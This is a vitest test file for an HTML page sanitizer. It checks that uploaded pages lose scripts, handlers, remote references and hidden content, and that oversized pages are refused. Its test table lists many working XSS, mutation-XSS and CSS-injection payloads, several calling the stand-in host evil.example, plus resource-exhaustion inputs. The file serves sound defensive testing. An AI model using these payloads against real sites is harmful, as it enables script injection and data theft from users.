import { parseDocument } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { pageLimit, readPage } from '#app/server/own-page/read.ts'

type Node = ReturnType<typeof parseDocument>['children'][number]

const tags = new Set(
  'html head title style body h1 h2 h3 h4 h5 h6 p div section article header footer main nav aside figure figcaption blockquote pre ul ol li dl dt dd table caption thead tbody tfoot tr th td span a b strong i em u s del ins small sub sup mark code br hr img button address time abbr q label'.split(
    ' ',
  ),
)
const attributes: Record<string, RegExp> = {
  'data-part': /^p\d\d$/,
  class: /^(?:field|box|[cs]\d+)(?: (?:field|box|[cs]\d+))*$/,
  src: /^data:image\/(?:png|jpe?g|gif|webp|avif);base64,[A-Za-z0-9+/]+={0,2}$/,
  alt: /^(?:\{\{p\d\d\.w\d+\}\})?$/,
  lang: /^[A-Za-z-]{2,12}$/,
  type: /^button$/,
  tabindex: /^-1$/,
  width: /^\d{1,4}$/,
  height: /^\d{1,4}$/,
  colspan: /^\d{1,2}$/,
  rowspan: /^\d{1,2}$/,
}

/** Everything in a template that is not on the list, by name. */
function foreign(nodes: readonly Node[]): string[] {
  return nodes.flatMap((node) => {
    if (node.type === 'comment') return ['a comment']
    if (node.type === 'directive') return node.data === '!doctype html' ? [] : [node.data]
    if (node.type === 'text') {
      const inStyle = node.parent && 'name' in node.parent && node.parent.name === 'style'
      if (inStyle)
        return /url|@import|expression|javascript|behavior|[<\\]|fixed|\/\*|@(?!media)/i.test(node.data)
          ? [node.data]
          : []
      return /^[\s.]*(?:\{\{p\d\d\.w\d+\}\}\s*)*$/.test(node.data) ? [] : [`text ${node.data}`]
    }
    if (!('attribs' in node)) return ['something else']
    const wrong = Object.entries(node.attribs).filter(([name, value]) => !attributes[name]?.test(value))
    return [
      ...(tags.has(node.name) ? [] : [node.name]),
      ...wrong.map(([name, value]) => `${node.name} ${name}=${value}`),
      ...foreign(node.children),
    ]
  })
}

const around = (inside: string) =>
  `<!doctype html><html><body><h1>Lamp</h1><p>First text</p>${inside}<p>Second text</p><p>Third text</p></body></html>`
const read = (html: string | Uint8Array) =>
  readPage({ name: 'page.html', bytes: typeof html === 'string' ? Buffer.from(html) : html })

function template(html: string | Uint8Array) {
  const found = read(html)
  if ('issue' in found) throw new Error(found.issue)
  return found.page
}
const wordsOf = (page: ReturnType<typeof template>) =>
  page.parts.flatMap(({ words }) => Object.values(words)).join(' ')

const attacks: Record<string, string> = {
  script: '<script>alert(1)</script><script src=//evil.example/x.js></script>',
  'a script cut in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a handler on svg': '<svg onload=alert(1)><p>x</p><animate onbegin=alert(1) attributeName=x></svg>',
  'a script in svg':
    '<svg><script>alert(1)</script><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  'a handler without a space': '<img/onerror=alert(1)/src=x><p/onclick="alert(1)"//>x',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  base: '<base href="//evil.example/"><base target=_top>',
  'a style sheet from elsewhere':
    '<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>',
  'a form that posts':
    '<form action=//evil.example method=post><input name=a autofocus onfocus=alert(1)><button formaction=//evil.example>Go</button></form>',
  'a javascript link': '<a href="java&#115;cript:alert(1)">x</a><a href=" \u0001javascript:alert(1)">y</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a link that pings': '<a href="/x" ping="//evil.example" target=_blank download>x</a>',
  'style sheets with addresses':
    '<style>@import "//evil.example/a.css"; @font-face{font-family:x;src:url(//evil.example/x)} p{background:url(//evil.example/x)} p{background:u\\72l(//evil.example)} p{background:image-set("//evil.example/x" 1x)} p{color:red;-moz-binding:url(x)} p{width:expression(alert(1))} p{behavior:url(x)}</style>',
  'a style that ends early':
    '<style>p{color:red}</style ><img src=x onerror=alert(1)><style>/*</style><script>alert(1)</script>*/</style>',
  'a style attribute':
    '<p style="background:url(//evil.example);color:expression(alert(1));position:fixed;width:100vw">x</p>',
  'a style attribute with an escape': '<p style="background:\\75rl(//evil.example)">x</p>',
  srcset:
    '<img srcset="//evil.example/x 2x" src="//evil.example/y" alt="A lamp"><picture><source srcset=//evil.example></picture>',
  'other sources':
    '<video src=//evil.example poster=//evil.example><track src=//evil.example></video><audio src=//evil.example></audio><input type=image src=//evil.example>',
  frames:
    '<iframe src=//evil.example srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example><frameset><frame src=//evil.example></frameset>',
  template: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by mathml':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
  'mutation by svg style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>',
  'mutation by a comment': '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>',
  'raw text':
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><script>alert(1)</script></noembed><textarea></textarea><script>alert(1)</script>',
  plaintext: '<title><img src=x onerror=alert(1)></title>',
  'background attributes':
    '<table background=//evil.example><tr><td background=//evil.example>x</td></tr></table><body background=//evil.example onload=alert(1)>',
  cdata: '<![CDATA[<script>alert(1)</script>]]><?php echo "x" ?><!ENTITY x SYSTEM "//evil.example">',
  'an svg picture':
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  'a picture that is a page': '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  'telling names':
    '<div class="fake-timer" id="defect-1" data-defect="D1" aria-label="planted" title="wrong"><!-- the planted one --><p>x</p></div>',
  templates: '<p>{{p01.w1}} {{x}} <%= 1 %></p>',
  'marks of its own': '<p data-part="p01">x</p><p class="root gone box">y</p>',
  'letters that are none': '<p>a\u0000b&#0;c&#xD800;d\u0008e</p>',
  'a hidden element': '<div hidden><p>unseen</p></div><p style="display: none">unseen</p>',
}

describe('a page that means harm', () => {
  test.each(Object.entries(attacks))('%s: nothing of it is left but text', (_, inside) => {
    const page = template(around(inside))
    expect(foreign(parseDocument(page.template).children)).toEqual([])
    expect(page.template).not.toMatch(/evil|alert|javascript|defect|timer|planted|unseen/i)
    expect(wordsOf(page)).not.toMatch(/\p{Cs}|\p{Cc}|unseen/u)
    expect(wordsOf(page)).toContain('Lamp First text')
  })

  test('in UTF-16 it is the same page, and no less harmless', () => {
    const html = around('<script>alert(1)</script><p>Llambë · лампа</p>')
    for (const bytes of [
      Buffer.from(`\ufeff${html}`, 'utf16le'),
      Buffer.from(html, 'utf16le'),
      Buffer.from(`\ufeff${html}`, 'utf16le').swap16(),
    ]) {
      const page = template(bytes)
      expect(foreign(parseDocument(page.template).children)).toEqual([])
      expect(wordsOf(page)).toContain('Llambë · лампа')
    }
  })

  test('old encodings are read as the page says', () => {
    const bytes = Buffer.concat([
      Buffer.from('<html><head><meta charset="windows-1251"></head><body><h1>'),
      Buffer.from([0xcb, 0xe0, 0xec, 0xef, 0xe0]),
      Buffer.from('</h1><p>a</p><p>b</p></body></html>'),
    ])
    expect(wordsOf(template(bytes))).toBe('Лампа a b')
  })
})

describe('a page too large for anybody', () => {
  const many = 'A'.repeat(2_800_000)
  const cases: Record<string, [string, string | null]> = {
    'ten thousand nested elements': ['<div>'.repeat(10_000), 'too-much'],
    'half a million elements': [around('<p>x'.repeat(500_000)), 'too-much'],
    'a huge picture': [around(`<img src="data:image/png;base64,${many}" alt="Big">`), null],
    'a huge style sheet': [around(`<style>${'.a{color:red}'.repeat(200_000)}</style>`), 'too-much'],
    'a style sheet full of fonts': [
      around(`<style>@font-face{src:url(data:font/woff2;base64,${many})} h1{color:red}</style>`),
      null,
    ],
    'braces without end': [around(`<style>${'a{'.repeat(150_000)}</style>`), null],
    'nothing but angle brackets': [around('<'.repeat(1_400_000)), 'too-much'],
    'one long attribute': [around(`<p class="${'abc '.repeat(350_000)}">x</p>`), null],
    'twelve thousand elements': [around('<p style="color:#111"><b>x</b></p>'.repeat(5_900)), null],
  }
  test.each(Object.entries(cases))(
    '%s: read or refused within half a second of a processor, or nearly',
    (_, [html, issue]) => {
      const before = process.cpuUsage()
      const found = read(html)
      const { user, system } = process.cpuUsage(before)
      expect('issue' in found ? found.issue : null).toBe(issue)
      expect((user + system) / 1000).toBeLessThan(1200)
      if ('page' in found) expect(found.page.template.length).toBeLessThan(1_000_000)
    },
  )

  test('what is over the limit, empty or no page is named', () => {
    expect(read(Buffer.alloc(pageLimit + 1, 32))).toEqual({ issue: 'too-big' })
    expect(read('')).toEqual({ issue: 'no-file' })
    expect(read(Buffer.from('%PDF-1.7\n%…'))).toEqual({ issue: 'not-a-page' })
    expect(read('From: <Saved by Blink>\nMIME-Version: 1.0\n\n<html><body><p>a')).toEqual({
      issue: 'not-a-page',
    })
    expect(read('Dear reader, no page at all')).toEqual({ issue: 'not-a-page' })
    expect(read('<html><body><p>only one')).toEqual({ issue: 'too-little' })
  })
})

describe('what is kept', () => {
  test('the look stays under new names: classes, ids, style attributes, what depends on the width', () => {
    const page = template(
      around(
        '<style>.hero > p, #top p { color: red; background: linear-gradient(#fff, var(--brand)) } :root { --brand: #00f } .gone { color: blue } @media (max-width: 600px) { .hero { padding: 1em } } .hero:hover { color: green }</style><div class="hero" id="top"><p style="font-weight: bold; float: left">x</p></div>',
      ),
    )
    expect(page.template).toContain('.c1>p,.c2 p {color:red;background:linear-gradient(#fff, var(--v1))}')
    expect(page.template).toContain('body {--v1:#00f}')
    expect(page.template).toContain('@media (max-width: 600px) {\n.c1 {padding:1em}\n}')
    expect(page.template).toContain('.s1.s1.s1{font-weight:bold;float:left}')
    expect(page.template).not.toMatch(/blue|green|hero|top p|brand/)
  })

  test('a picture in the file stays, another is a box with its description', () => {
    const dot = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=='
    const page = template(
      around(`<img src="${dot}" alt="In" width="40"><p>between</p><img src="shop/lamp.jpg" alt="Out">`),
    )
    expect(page.template).toContain(`src="${dot}"`)
    expect(page.boxes).toBe(1)
    expect(wordsOf(page)).toBe('Lamp First text In between Out Second text Third text')
  })

  test('parts are numbered in the order of the page, each word in exactly one', () => {
    const page = template(
      around(
        '<ul><li>one<li>two</ul><table><tr><td>a<td>b</table><form><label>Name <input placeholder="Yours"></label></form><div>loose <b>words</b><p>and a paragraph</p>more</div><button>Buy</button>',
      ),
    )
    expect(page.parts.map(({ id, kind }) => `${id} ${kind}`)).toEqual([
      'p01 heading',
      'p02 text',
      'p03 item',
      'p04 item',
      'p05 row',
      'p06 text',
      'p07 text',
      'p08 text',
      'p09 text',
      'p10 button',
      'p11 text',
      'p12 text',
    ])
    const shown = [...page.template.matchAll(/data-part="(p\d\d)"/g)].map(([, id]) => id)
    expect(shown).toEqual(page.parts.map(({ id }) => id))
    expect(wordsOf(page)).toBe(
      'Lamp First text one two a b Name Yours loose words and a paragraph more Buy Second text Third text',
    )
  })

  test('a long page has parts that can still be chosen among', () => {
    const block = (n: number) =>
      `<section><h2>Title ${n}</h2><p>Some words</p><ul><li>a<li>b<li>c</ul></section>`
    const page = template(around(Array.from({ length: 40 }, (_, n) => block(n)).join('')))
    expect(page.parts.length).toBeGreaterThanOrEqual(10)
    expect(page.parts.length).toBeLessThanOrEqual(60)
    expect(page.cut).toBe(false)
    const flat = template(around('<p>One more paragraph</p>'.repeat(300)))
    expect([flat.parts.length, flat.cut]).toEqual([60, true])
  })
})
